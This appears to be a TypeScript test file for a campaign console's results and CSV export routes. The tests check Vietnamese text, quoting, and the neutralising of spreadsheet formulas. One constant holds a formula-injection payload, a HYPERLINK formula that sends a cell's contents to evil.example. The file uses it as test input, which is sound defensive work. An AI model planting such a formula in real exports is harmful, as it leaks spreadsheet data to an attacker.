/**
 * The console's results routes (admin/results-routes.ts) over real HTTP, with the real SQLite store, the
 * real site reach on console.sqlite and the real quiz aggregate; the session guard is stood in for by a
 * tiny Hono app that sets the user, as the admin app's guard does (its 401/403 are the auth tests').
 * Results JSON validated with the contract's schema; CSV files parsed back with a CSV parser.
 */
import { serve, type ServerType } from '@hono/node-server';
import { csvParseRows } from 'd3-dsv';
import { Hono } from 'hono';
import assert from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import {
  EXPORT_CSV_COLUMNS,
  campaignDocSchema,
  resultsResponseSchema,
  sitesResponseSchema,
  type CampaignDoc,
} from '../../src/contract/admin.js';
import type { AdminEnv } from '../../src/server/admin/admin-env.js';
import { safeCell } from '../../src/server/admin/results-csv.js';
import { QUIZ_CSV_COLUMNS, SITES_CSV_COLUMNS, resultsRoutes } from '../../src/server/admin/results-routes.js';
import { SITES_TABLES, SiteReach } from '../../src/server/campaigns/reach.js';
import { QuizStatsAggregate } from '../../src/server/campaigns/quiz-stats.js';
import { openConsoleDb, type ConsoleDb } from '../../src/server/store/console-db.js';
import { SqliteStore } from '../../src/server/store/sqlite-store.js';
import { newKey, tempDir } from './helpers.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const QUOTED = 'Đoàn "Thanh niên", Công an tỉnh';

const doc: CampaignDoc = campaignDocSchema.parse({
  id: 'chuyen-doi-so',
  title: { vi: 'Chuyển đổi số', en: 'Digital transformation' },
  choices: [
    { id: 'smartphone', label: { vi: 'Dùng điện thoại thông minh', en: 'Use a smartphone' } },
    { id: 'plus', label: { vi: '+ Hành động, "mạnh mẽ"', en: 'Plus' } },
  ],
  units: [
    { id: 'ba-tri', name: 'Huyện Ba Tri', goal: 100, group: 'Huyện, Thành đoàn' },
    { id: 'cong-an', name: QUOTED, goal: 50, group: 'Đoàn trực thuộc' },
    { id: 'formula', name: HYPERLINK, goal: 10, group: '@Nhóm', retired: true },
  ],
  goal: 160,
  goalsAreIllustrative: true,
  startDate: '2026-10-01',
  endDate: '2026-12-31',
  embed: 'open',
  allowedOrigins: ['https://listed.example.vn'],
  messages: [],
  quizzes: [{ id: 'quiz-cds', title: { vi: '-Hỏi đáp chuyển đổi số', en: 'Quiz' } }],
  version: 3,
  updatedAt: '2026-10-01T00:00:00.000Z',
});

let server: ServerType;
let base: string;
let store: SqliteStore;
let consoleDb: ConsoleDb;
let reach: SiteReach;
const dir = tempDir();

before(async () => {
  store = await SqliteStore.open(join(dir.path, 'pledges.sqlite'));
  consoleDb = openConsoleDb(dir.path, [SITES_TABLES]);
  let clock = Date.parse('2026-10-10T01:00:00.000Z');
  reach = await SiteReach.open(consoleDb, { flushMs: 0, now: () => (clock += 1000) });
  const quiz = new QuizStatsAggregate('quiz-cds', doc);
  quiz.apply('ba-tri', 3, 4, '2026-10-10T01:00:00.000Z');
  quiz.apply('ba-tri', 4, 4, '2026-10-10T01:00:00.000Z');
  quiz.apply('cong-an', 1, 2, '2026-10-10T01:00:00.000Z');

  const pledges: [string, string, string][] = [
    ['2026-10-10T16:59:59.000Z', 'ba-tri', 'smartphone'], // 23:59:59 on the 10th in Vietnam
    ['2026-10-10T23:30:00.000Z', 'ba-tri', 'smartphone'], // 06:30 on the 11th
    ['2026-10-11T01:00:00.000Z', 'ba-tri', 'smartphone'], // 08:00 on the 11th
    ['2026-10-10T02:00:00.000Z', 'formula', 'plus'],
    ['2026-10-10T02:00:00.000Z', 'cong-an', 'plus'],
    ['2026-10-10T03:00:00.000Z', 'cong-an', 'smartphone'],
  ];
  for (const [createdAt, unit, choice] of pledges)
    await store.add({ kind: 'pledge', campaign: doc.id, unit, choice, key: newKey(), createdAt });
  reach.seen(doc.id, 'https://listed.example.vn', 'read');
  reach.seen(doc.id, 'https://listed.example.vn', 'pledge');
  await reach.flush();
  reach.seen(doc.id, 'https://listed.example.vn', 'read'); // stored and pending, merged
  reach.seen(doc.id, 'http://other.example', 'read');

  const app = new Hono<AdminEnv>();
  app.use(async (c, next) => {
    c.set('user', { name: 'editor', role: 'editor' });
    await next();
  });
  app.route(
    '/campaigns',
    resultsRoutes({
      campaigns: { get: (id) => (id === doc.id ? doc : undefined) },
      store,
      quizStats: (id) => (id === 'quiz-cds' ? quiz.snapshot().value : undefined),
      reach,
      now: () => Date.parse('2026-10-11T18:00:00.000Z'), // the 12th in Vietnam
    }),
  );
  server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' });
  await new Promise((resolve) => server.once('listening', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/campaigns/${doc.id}`;
});

after(async () => {
  await new Promise((resolve) => server.close(resolve));
  await store.close();
  await reach.close();
  consoleDb.close();
  dir.remove();
});

/** A CSV answer: its headers checked, the BOM and CRLF checked, the text parsed back. */
async function csv(query = '') {
  const response = await fetch(`${base}/export.csv${query}`);
  assert.equal(response.status, 200);
  assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
  const bytes = Buffer.from(await response.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
  const text = bytes.subarray(3).toString('utf8');
  assert.ok(text.endsWith('\r\n'));
  // Every line break outside a quoted cell is CRLF.
  assert.equal(text.replace(/"[^"]*"/g, '').match(/(?<!\r)\n/g), null);
  return { response, rows: csvParseRows(text.replace(/\r\n$/, '')) };
}

describe('results routes', () => {
  it('results: pledges per Vietnam day × unit × choice, in the campaign order, and quiz figures per unit', async () => {
    const response = await fetch(`${base}/results`);
    assert.equal(response.status, 200);
    const body = resultsResponseSchema.parse(await response.json());
    assert.equal(body.campaign, doc.id);
    assert.equal(body.total, 6);
    assert.deepEqual(body.days, [
      { day: '2026-10-10', unit: 'ba-tri', choice: 'smartphone', count: 1 },
      { day: '2026-10-10', unit: 'cong-an', choice: 'smartphone', count: 1 },
      { day: '2026-10-10', unit: 'cong-an', choice: 'plus', count: 1 },
      { day: '2026-10-10', unit: 'formula', choice: 'plus', count: 1 },
      { day: '2026-10-11', unit: 'ba-tri', choice: 'smartphone', count: 2 },
    ]);
    assert.deepEqual(body.quizzes, [
      {
        quiz: 'quiz-cds',
        title: doc.quizzes?.[0].title,
        units: [
          { unit: 'ba-tri', participants: 2, averageScore: 0.875 },
          { unit: 'cong-an', participants: 1, averageScore: 0.5 },
          { unit: 'formula', participants: 0, averageScore: 0 },
        ],
      },
    ]);
  });

  it('sites: stored and not yet flushed, the latest first, listed from the allowed origins', async () => {
    const response = await fetch(`${base}/sites`);
    assert.equal(response.status, 200);
    const body = sitesResponseSchema.parse(await response.json());
    assert.equal(body.embed, 'open');
    assert.deepEqual(
      body.sites.map(({ origin, reads, pledges, listed }) => ({ origin, reads, pledges, listed })),
      [
        { origin: 'http://other.example', reads: 1, pledges: 0, listed: false },
        { origin: 'https://listed.example.vn', reads: 2, pledges: 1, listed: true },
      ],
    );
  });

  it('export.csv: one row per day × unit × choice, Vietnamese names, quotes and commas, formulas neutralised', async () => {
    const { response, rows } = await csv();
    assert.equal(response.headers.get('content-disposition'), `attachment; filename="${doc.id}-2026-10-12.csv"`);
    assert.deepEqual(rows[0], [...EXPORT_CSV_COLUMNS]);
    assert.deepEqual(rows.slice(1), [
      ['2026-10-10', 'ba-tri', 'Huyện Ba Tri', 'Huyện, Thành đoàn', 'smartphone', 'Dùng điện thoại thông minh', '1'],
      ['2026-10-10', 'cong-an', QUOTED, 'Đoàn trực thuộc', 'smartphone', 'Dùng điện thoại thông minh', '1'],
      ['2026-10-10', 'cong-an', QUOTED, 'Đoàn trực thuộc', 'plus', `'+ Hành động, "mạnh mẽ"`, '1'],
      ['2026-10-10', 'formula', `'${HYPERLINK}`, `'@Nhóm`, 'plus', `'+ Hành động, "mạnh mẽ"`, '1'],
      ['2026-10-11', 'ba-tri', 'Huyện Ba Tri', 'Huyện, Thành đoàn', 'smartphone', 'Dùng điện thoại thông minh', '2'],
    ]);
  });

  it('export.csv?what=sites and ?what=quiz: the same rules', async () => {
    const sites = await csv('?what=sites');
    assert.equal(
      sites.response.headers.get('content-disposition'),
      `attachment; filename="${doc.id}-sites-2026-10-12.csv"`,
    );
    assert.deepEqual(sites.rows[0], [...SITES_CSV_COLUMNS]);
    assert.deepEqual(
      sites.rows.slice(1).map(([origin, listed, , , reads, pledges]) => [origin, listed, reads, pledges]),
      [
        ['http://other.example', '0', '1', '0'],
        ['https://listed.example.vn', '1', '2', '1'],
      ],
    );
    const quiz = await csv('?what=quiz');
    assert.deepEqual(quiz.rows[0], [...QUIZ_CSV_COLUMNS]);
    assert.deepEqual(quiz.rows.slice(1), [
      ['quiz-cds', `'-Hỏi đáp chuyển đổi số`, 'ba-tri', 'Huyện Ba Tri', 'Huyện, Thành đoàn', '2', '0.875'],
      ['quiz-cds', `'-Hỏi đáp chuyển đổi số`, 'cong-an', QUOTED, 'Đoàn trực thuộc', '1', '0.5'],
      ['quiz-cds', `'-Hỏi đáp chuyển đổi số`, 'formula', `'${HYPERLINK}`, `'@Nhóm`, '0', '0'],
    ]);
  });

  it('an unknown campaign is a 404, an unknown export a 400, both with the error body', async () => {
    const missing = await fetch(`${base.replace(doc.id, 'khong-co')}/results`);
    assert.equal(missing.status, 404);
    assert.equal(((await missing.json()) as { error: { code: string } }).error.code, 'unknown_campaign');
    const bad = await fetch(`${base}/export.csv?what=people`);
    assert.equal(bad.status, 400);
    assert.deepEqual(((await bad.json()) as { error: { field: string } }).error.field, 'what');
  });
});

describe('CSV cells', () => {
  it('neutralises a text starting with =, +, -, @, tab or CR, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(safeCell(`${start}1+1`), `'${start}1+1`);
    assert.equal(safeCell('Ba Tri = 1'), 'Ba Tri = 1');
    assert.equal(safeCell("'quoted"), "'quoted");
    assert.equal(safeCell(-1), '-1', 'numbers are the service’s own, never typed');
  });
});
